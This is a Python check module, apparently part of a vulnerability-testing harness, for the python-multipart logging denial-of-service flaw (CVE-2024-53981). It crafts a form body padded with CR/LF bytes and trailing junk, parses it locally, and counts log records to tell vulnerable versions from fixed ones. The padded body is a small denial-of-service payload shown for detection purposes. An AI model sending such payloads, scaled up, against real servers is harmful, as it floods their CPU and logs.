"""CVE-2024-53981 (python-multipart 0.0.17 -> 0.0.18): DoS by per-byte logging around a form.

``MultipartParser`` logged once per byte for CR/LF before the first boundary (debug) and for every
byte after the last one (warning), so a body padded with megabytes of junk costs one log call per
byte: a cheap CPU and log-flooding DoS. 0.0.18 skips leading CR/LF silently and drops trailing
data with a single warning. The check feeds a form with 1000 CR/LF bytes in front and 1000 junk
bytes behind and counts the records of the module logger (a temporary filter counts and drops
them, the level is lowered to DEBUG meanwhile): ~2000 before the fix, 1 after. It uses a parser
built in ``prepare()`` (``prepare`` makes a few, one used per call) and a fresh one.
"""

from __future__ import annotations

import logging
from dataclasses import dataclass, field

from python_multipart.multipart import MultipartParser

_BOUNDARY = b"x7BOUNDARYx7"
_FORM = b'--%s\r\nContent-Disposition: form-data; name="field"\r\n\r\nvalue\r\n--%s--\r\n'
_BODY = b"\r\n" * 500 + _FORM % (_BOUNDARY, _BOUNDARY) + b"junk" * 250


@dataclass
class _Ctx:
    parsers: list[MultipartParser] = field(default_factory=list)


class _Counter(logging.Filter):
    def __init__(self) -> None:
        super().__init__()
        self.records = 0

    def filter(self, record: logging.LogRecord) -> bool:
        self.records += 1
        return False


def _new_parser() -> MultipartParser:
    return MultipartParser(_BOUNDARY, callbacks={})


def prepare() -> object:
    return _Ctx([_new_parser() for _ in range(4)])


def exploited(ctx: object) -> bool:
    assert isinstance(ctx, _Ctx)
    parsers = [ctx.parsers.pop()] if ctx.parsers else []
    parsers.append(_new_parser())
    logger = logging.getLogger(MultipartParser.__module__)
    counter, level = _Counter(), logger.level
    logger.addFilter(counter)
    logger.setLevel(logging.DEBUG)
    try:
        for parser in parsers:
            if parser.write(_BODY) != len(_BODY):
                raise RuntimeError("parser stopped early")
            parser.finalize()
    finally:
        logger.removeFilter(counter)
        logger.setLevel(level)
    return counter.records > 100 * len(parsers)
